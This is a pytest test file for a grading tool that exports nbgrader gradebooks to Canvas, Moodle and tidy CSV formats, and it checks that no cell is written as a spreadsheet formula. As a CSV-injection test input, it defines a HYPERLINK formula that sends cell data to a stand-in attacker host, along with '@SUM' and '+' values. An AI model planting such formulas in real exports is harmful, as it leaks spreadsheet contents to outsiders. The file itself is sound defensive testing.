"""Exports: the headings that Canvas and Moodle read, the gradebook's totals, and no formula in any cell."""

import csv
import json
import os
import re
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest

from grading.__main__ import main
from grading.commands.export import export
from grading.export import FORMATS
from grading.export.sheets import as_csv, guarded
from grading.folder.messages import Trouble
from tests.grading.conftest import CHAPTER, ROOT
from tests.grading.small_class import TESTS, Student, a_course, wrong

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def the_class() -> list[Student]:
    return [
        Student("ada", written=1.5, email="ada@example.org"),
        Student(
            "grace", {"check-train": wrong("train")}, first_name="Grace", last_name="Hopper, Rear Admiral",
            late=timedelta(hours=25), penalty=0.4,
        ),
        Student("mallory", first_name=FORMULA, last_name="+1", email="@SUM(A1)", manual={"check-error": 0.5}),
    ]  # fmt: skip


@pytest.fixture
def course(tmp_path):
    course = a_course(tmp_path, the_class())
    with course.gradebook as gradebook:
        gradebook.add_student("absent", first_name="Nobody", last_name="Here")
    return course


def table(place: Path) -> tuple[list[str], list[dict[str, str]]]:
    with place.open(newline="", encoding="utf-8") as file:
        reader = csv.DictReader(file)
        return list(reader.fieldnames), list(reader)


def totals(course) -> dict[str, float]:
    """What nbgrader's own exporter says: the score less the penalty."""
    with course.gradebook as gradebook:
        return {
            one.student.id: max(0.0, one.score - (one.late_submission_penalty or 0.0))
            for one in gradebook.assignment_submissions(CHAPTER)
        }


def test_canvas(course, tmp_path):
    assert export(course, [CHAPTER], "canvas", tmp_path / "out.csv") is True
    headings, (possible, *rows) = table(tmp_path / "out.csv")
    assert headings == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", CHAPTER]
    assert possible["Student"] == "    Points Possible"
    assert float(possible[CHAPTER]) == 8
    found = {row["SIS Login ID"]: row for row in rows}
    assert {who: float(row[CHAPTER]) for who, row in found.items() if row[CHAPTER]} == pytest.approx(
        totals(course)
    )
    assert found["absent"][CHAPTER] == ""
    assert found["grace"]["Student"] == "Hopper, Rear Admiral, Grace"


def test_moodle(course, tmp_path):
    export(course, [CHAPTER], "moodle", tmp_path / "out.csv")
    headings, rows = table(tmp_path / "out.csv")
    column = f"Assignment: {CHAPTER} (Real)"
    assert headings == ["First name", "Surname", "ID number", "Email address", column]
    found = {row["ID number"]: row for row in rows}
    assert {who: float(row[column]) for who, row in found.items() if row[column]} == pytest.approx(
        totals(course)
    )
    assert found["ada"]["Email address"] == "ada@example.org"
    assert found["absent"][column] == ""


def test_tidy(course, tmp_path):
    export(course, [CHAPTER], "tidy", tmp_path / "out.csv")
    headings, rows = table(tmp_path / "out.csv")
    assert headings == [
        "student", "chapter", "exercise", "points", "max", "automatic", "manual", "late_seconds", "penalty",
    ]  # fmt: skip
    assert len(rows) == 3 * 4
    for who, total in totals(course).items():
        own = [row for row in rows if row["student"] == who]
        assert sum(float(row["points"] or 0) for row in own) - float(own[0]["penalty"]) == pytest.approx(
            total
        )
        assert {row["exercise"] for row in own} == {*TESTS, "written-answer"}
    by_hand = next(row for row in rows if (row["student"], row["exercise"]) == ("mallory", "check-error"))
    assert (by_hand["points"], by_hand["automatic"], by_hand["manual"]) == ("0.5", "1", "0.5")
    waits = next(row for row in rows if (row["student"], row["exercise"]) == ("grace", "written-answer"))
    assert (waits["points"], waits["automatic"], waits["manual"]) == ("", "", "")
    assert {row["late_seconds"] for row in rows if row["student"] == "grace"} == {"90000"}


@pytest.mark.parametrize("form", FORMATS)
def test_help_makefile_and_handbook_know_it(form, capsys):
    with pytest.raises(SystemExit):
        main(["export", "--help"])
    said = capsys.readouterr().out
    assert form in said
    assert FORMATS[form].file in said
    export = next(line for line in (ROOT / "Makefile").read_text().splitlines() if line.startswith("export:"))
    pages = [(ROOT / name).read_text("utf-8") for name in ("README.md", "docs/instructors.md")]
    assert all(re.search(rf"\b{form}\b", text, re.IGNORECASE) for text in (export, *pages))


@pytest.mark.parametrize("form", FORMATS)
def test_no_cell_is_a_formula(course, tmp_path, form):
    export(course, [CHAPTER], form, tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"), ("+49", "'+49"), ("-", "'-"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
        ("  =1", "'  =1"), ("＝1", "'＝1"), ("a=1", "a=1"), ("", ""), (None, ""), (-1.5, "-1.5"), (3.0, "3"),
        (0.1 + 0.2, "0.3"), ("O'Brien", "O'Brien"),
    ],
)  # fmt: skip
def test_guard(cell, written):
    assert guarded(cell) == written


def test_csv_quotes_what_needs_it():
    assert list(csv.reader(as_csv(["a"], [['x, "y"\nz']]).splitlines(keepends=True))) == [
        ["a"],
        ['x, "y"\nz'],
    ]


def test_a_submission_that_was_never_judged_has_no_zero(course, tmp_path, capsys):
    with course.gradebook as gradebook:
        gradebook.add_submission(CHAPTER, "absent")
    assert export(course, [CHAPTER], "canvas", tmp_path / "out.csv") is True
    _, rows = table(tmp_path / "out.csv")
    assert next(row for row in rows if row["SIS Login ID"] == "absent")[CHAPTER] == ""
    assert "1 submission has no grade" in capsys.readouterr().out


def test_summary_and_what_waits(course, tmp_path, capsys):
    assert export(course, [CHAPTER], "moodle", None) is True
    out = capsys.readouterr().out
    assert out.startswith("moodle.csv holds the grades of 3 students in 1 chapter.\n2 submissions still wait")
    assert (course.root / "moodle.csv").is_file()


def test_nothing_waits_is_no_reason_for_a_person(tmp_path):
    assert export(a_course(tmp_path, [Student("one", written=2.0)]), [CHAPTER], "tidy", None) is False


def test_json_is_a_list_of_rows_and_no_file(course, capsys):
    export(course, [CHAPTER], "tidy", None, as_json=True)
    rows = json.loads(capsys.readouterr().out)
    assert rows[0]["student"] == "ada"
    assert isinstance(rows[0]["points"], float)
    assert not (course.root / "grades.csv").exists()


def test_nothing_to_export_and_nowhere_to_write_are_one_sentence(course, tmp_path):
    with pytest.raises(Trouble, match="no grades to export"):
        export(course, ["01-feed-forward"], "tidy", None)
    (tmp_path / "file").write_text("")
    with pytest.raises(Trouble, match="cannot be written"):
        export(course, [CHAPTER], "tidy", tmp_path / "file" / "out.csv")


@pytest.mark.parametrize("form", ["canvas.CanvasExporter", "moodle.MoodleExporter", "tidy.TidyExporter"])
def test_stock_nbgrader_calls_them_too(course, form):
    done = subprocess.run(
        [sys.executable, "-m", "nbgrader", "export", f"--exporter=grading.export.{form}", "--to=stock.csv"],
        cwd=course.root, capture_output=True, text=True, timeout=120, env={**os.environ, "PYTHONPATH": str(ROOT)},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    ours = course.root / "ours.csv"
    export(course, [CHAPTER], form.split(".")[0], ours)
    assert (course.root / "stock.csv").read_text() == ours.read_text()
